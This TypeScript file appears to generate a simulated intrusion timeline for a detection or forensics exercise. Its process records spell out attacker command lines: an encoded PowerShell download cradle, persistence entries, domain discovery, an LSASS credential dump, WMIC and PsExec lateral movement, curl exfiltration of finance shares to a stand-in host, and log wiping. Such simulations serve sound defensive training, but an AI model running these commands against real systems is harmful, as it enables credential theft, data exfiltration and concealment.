import { attacker, malware, PATIENT_ZERO, STOLEN_ACCOUNT, VICTIM_SERVER } from './attacker.ts';
import { DESKTOP } from './background-processes.ts';
import { computer } from './company.ts';
import { encodedCommand } from './encode.ts';
import { bootProcess, child, type ProcessStart } from './process.ts';
import { at } from './week.ts';

const SYSTEM32 = 'C:\\Windows\\System32\\';
const SYSTEM = 'NT AUTHORITY\\SYSTEM';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYSTEM32}cmd.exe`;
const NET = `${SYSTEM32}net.exe`;
const NLTEST = `${SYSTEM32}nltest.exe`;
const HELPER = 'C:\\ProgramData\\synchelper.exe';
const REMOTE_SERVICE = 'C:\\Windows\\PSEXESVC.exe';
const IMPLANT = 'C:\\ProgramData\\OneSync\\onesync.exe';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';

const IMPLANT_LINE = `"${IMPLANT}" -s ${attacker.command.address} -p 443 -i 60 -n ${attacker.command.domain}`;

export const STAGE_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('${attacker.stage.url}')`;

/** The intrusion, program by program, begun in the victim's own session; see data/README.md for the same in prose. */
export function intrusionProcesses(background: readonly ProcessStart[]): readonly ProcessStart[] {
  const first = breakIn(desktopOfVictim(background));
  const wednesday = restarted(at('Wed', '06:52:18'));
  const thursday = restarted(at('Thu', '06:47:38'));
  return [
    ...first.all,
    ...discovery(first.implant),
    wednesday,
    ...credentials(wednesday),
    ...lateralMovement(wednesday),
    ...onFileServer(),
    thursday,
  ];
}

function desktopOfVictim(background: readonly ProcessStart[]): ProcessStart {
  const desktop = background.find(
    ({ host, image, timeMs }) =>
      host === PATIENT_ZERO && image === DESKTOP && timeMs > at('Tue', '00:00:00') && timeMs < at('Tue', '08:00:00'),
  );
  if (desktop === undefined) throw new RangeError(`${PATIENT_ZERO} has no session on Tuesday`);
  return desktop;
}

/** Tuesday morning: the mail's link, the document, its macro, the downloader, the implant. */
function breakIn(desktop: ProcessStart): { readonly implant: ProcessStart; readonly all: readonly ProcessStart[] } {
  const document = 'C:\\Users\\l.marsh\\Downloads\\Invoice_4471.docm';
  const mail = child(desktop, {
    timeMs: at('Tue', '08:58:30'),
    image: `${OFFICE}OUTLOOK.EXE`,
    commandLine: `"${OFFICE}OUTLOOK.EXE"`,
  });
  const browser = child(mail, {
    timeMs: at('Tue', '09:12:44'),
    image: EDGE,
    commandLine: `"${EDGE}" --single-argument ${attacker.lure.url}`,
  });
  const word = child(desktop, {
    timeMs: at('Tue', '09:14:32'),
    image: `${OFFICE}WINWORD.EXE`,
    commandLine: `"${OFFICE}WINWORD.EXE" /n "${document}"`,
  });
  const loader = child(word, {
    timeMs: at('Tue', '09:14:51.302'),
    image: POWERSHELL,
    commandLine: `powershell.exe -nop -w hidden -enc ${encodedCommand(STAGE_SCRIPT)}`,
  });
  const download = child(loader, {
    timeMs: at('Tue', '09:15:18.870'),
    image: POWERSHELL,
    commandLine: `powershell.exe -nop -c Invoke-WebRequest ${attacker.stage.payloadUrl} -OutFile ${IMPLANT}`,
  });
  const implant = child(loader, {
    timeMs: at('Tue', '09:16:02.114'),
    image: IMPLANT,
    commandLine: IMPLANT_LINE,
    sha256: malware.implant,
  });
  return { implant, all: [mail, browser, word, loader, download, implant, ...persistence(implant)] };
}

function persistence(implant: ProcessStart): readonly ProcessStart[] {
  const run = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
  return [
    child(implant, {
      timeMs: at('Tue', '09:31:40'),
      image: `${SYSTEM32}schtasks.exe`,
      commandLine: `schtasks /create /sc onlogon /tn "OneSync Updater" /tr ${IMPLANT} /f`,
    }),
    child(implant, {
      timeMs: at('Tue', '09:32:05'),
      image: `${SYSTEM32}reg.exe`,
      commandLine: `reg add ${run} /v OneSync /d ${IMPLANT} /f`,
    }),
  ];
}

/** The task from Tuesday starts the implant again whenever the victim logs on. */
function restarted(timeMs: number): ProcessStart {
  const desk = computer(PATIENT_ZERO);
  const scheduler = bootProcess(desk, `${SYSTEM32}svchost.exe`, SYSTEM);
  const { account } = desk;
  return child(scheduler, { timeMs, image: IMPLANT, commandLine: IMPLANT_LINE, account, sha256: malware.implant });
}

/** Tuesday, later: who am I, who rules here, where are the servers? */
function discovery(implant: ProcessStart): readonly ProcessStart[] {
  return throughShell(implant, [
    { timeMs: at('Tue', '10:05:11'), image: `${SYSTEM32}whoami.exe`, commandLine: 'whoami /all' },
    { timeMs: at('Tue', '10:05:48'), image: `${SYSTEM32}ipconfig.exe`, commandLine: 'ipconfig /all' },
    { timeMs: at('Tue', '10:06:31'), image: `${SYSTEM32}systeminfo.exe`, commandLine: 'systeminfo' },
    { timeMs: at('Tue', '10:09:02'), image: NET, commandLine: 'net group "Domain Admins" /domain' },
    { timeMs: at('Tue', '10:09:40'), image: NET, commandLine: 'net group "Backup Operators" /domain' },
    { timeMs: at('Tue', '10:12:17'), image: NLTEST, commandLine: 'nltest /dclist:halden.internal' },
    { timeMs: at('Tue', '10:12:55'), image: NLTEST, commandLine: 'nltest /domain_trusts' },
    { timeMs: at('Tue', '10:20:29'), image: NET, commandLine: 'net view /domain:HALDEN' },
    { timeMs: at('Tue', '10:30:57'), image: `${SYSTEM32}ping.exe`, commandLine: 'ping -n 1 10.10.0.20' },
    { timeMs: at('Tue', '10:31:06'), image: NET, commandLine: 'net view \\\\FILE-01 /all' },
    { timeMs: at('Tue', '10:40:33'), image: `${SYSTEM32}quser.exe`, commandLine: 'quser' },
  ]);
}

/** Wednesday noon: the memory of the logon service, where a backup operator's password lies. */
function credentials(implant: ProcessStart): readonly ProcessStart[] {
  const library = 'C:\\Windows\\System32\\comsvcs.dll';
  const dump = 'C:\\ProgramData\\OneSync\\l.dmp';
  return throughShell(implant, [
    {
      timeMs: at('Wed', '13:20:08'),
      image: `${SYSTEM32}tasklist.exe`,
      commandLine: 'tasklist /fi "imagename eq lsass.exe"',
    },
    {
      timeMs: at('Wed', '13:21:44'),
      image: `${SYSTEM32}rundll32.exe`,
      commandLine: `rundll32.exe ${library}, MiniDump 712 ${dump} full`,
    },
  ]);
}

/** Wednesday afternoon: to the file server, first by WMI, then by PsExec. */
function lateralMovement(implant: ProcessStart): readonly ProcessStart[] {
  const probe = 'cmd.exe /c hostname > C:\\ProgramData\\h.txt';
  return throughShell(implant, [
    {
      timeMs: at('Wed', '14:02:10'),
      image: `${SYSTEM32}wbem\\WMIC.exe`,
      commandLine: `wmic /node:10.10.0.20 /user:${STOLEN_ACCOUNT} process call create "${probe}"`,
    },
    {
      timeMs: at('Wed', '14:09:35'),
      image: 'C:\\ProgramData\\OneSync\\p.exe',
      commandLine: `p.exe \\\\10.10.0.20 -accepteula -s -d ${HELPER}`,
      sha256: malware.remoteClient,
    },
  ]);
}

function onFileServer(): readonly ProcessStart[] {
  const services = bootProcess(computer(VICTIM_SERVER), `${SYSTEM32}services.exe`, SYSTEM);
  const wmiHost = `${SYSTEM32}wbem\\WmiPrvSE.exe`;
  const wmi = child(services, {
    timeMs: at('Wed', '14:02:13'),
    image: wmiHost,
    commandLine: `${wmiHost} -secured -Embedding`,
  });
  const hostname = child(wmi, {
    timeMs: at('Wed', '14:02:13.480'),
    image: CMD,
    commandLine: 'cmd.exe /c hostname > C:\\ProgramData\\h.txt',
    account: STOLEN_ACCOUNT,
  });
  const remote = child(services, {
    timeMs: at('Wed', '14:09:38'),
    image: REMOTE_SERVICE,
    commandLine: REMOTE_SERVICE,
    sha256: malware.remoteService,
  });
  const helper = child(remote, {
    timeMs: at('Wed', '14:09:39.207'),
    image: HELPER,
    commandLine: `${HELPER} --wait --server ${attacker.fallback.address}`,
    sha256: malware.secondImplant,
  });
  return [wmi, hostname, remote, helper, ...theft(helper)];
}

/** Thursday night: an archiver fetched, the shares packed, the parts sent away, the traces wiped. */
function theft(helper: ProcessStart): readonly ProcessStart[] {
  const archiver = 'C:\\ProgramData\\r.exe';
  const to = `--resolve ${attacker.exfiltration.domain}:443:${attacker.exfiltration.address}`;
  return throughShell(helper, [
    {
      timeMs: at('Thu', '22:34:00'),
      image: `${SYSTEM32}certutil.exe`,
      commandLine: `certutil -urlcache -split -f ${attacker.fallback.toolUrl} ${archiver}`,
    },
    { timeMs: at('Thu', '22:38:20'), image: `${SYSTEM32}whoami.exe`, commandLine: 'whoami /priv' },
    {
      timeMs: at('Thu', '22:41:16'),
      image: archiver,
      commandLine: 'r.exe a -hp -v100m D:\\Staging\\q3 D:\\Shares\\Finance D:\\Shares\\Plans',
      sha256: malware.archiver,
    },
    {
      timeMs: at('Fri', '02:09:58'),
      image: `${SYSTEM32}curl.exe`,
      commandLine: `curl ${to} -s -T "D:\\Staging\\q3.part[01-18]" ${attacker.exfiltration.url}`,
    },
    { timeMs: at('Fri', '03:40:12'), image: `${SYSTEM32}wevtutil.exe`, commandLine: 'wevtutil cl Security' },
    { timeMs: at('Fri', '03:40:31'), image: CMD, commandLine: 'cmd.exe /c rd /s /q D:\\Staging' },
  ]);
}

type Order = Pick<ProcessStart, 'timeMs' | 'image' | 'commandLine'> & { readonly sha256?: string };

/** The implants start everything through a command shell of its own. */
function throughShell(parent: ProcessStart, orders: readonly Order[]): readonly ProcessStart[] {
  return orders.flatMap((order) => {
    const { timeMs, commandLine } = order;
    const shell = child(parent, { timeMs, image: CMD, commandLine: `cmd.exe /c ${commandLine}` });
    return [shell, child(shell, { ...order, timeMs: timeMs + 62 })];
  });
}
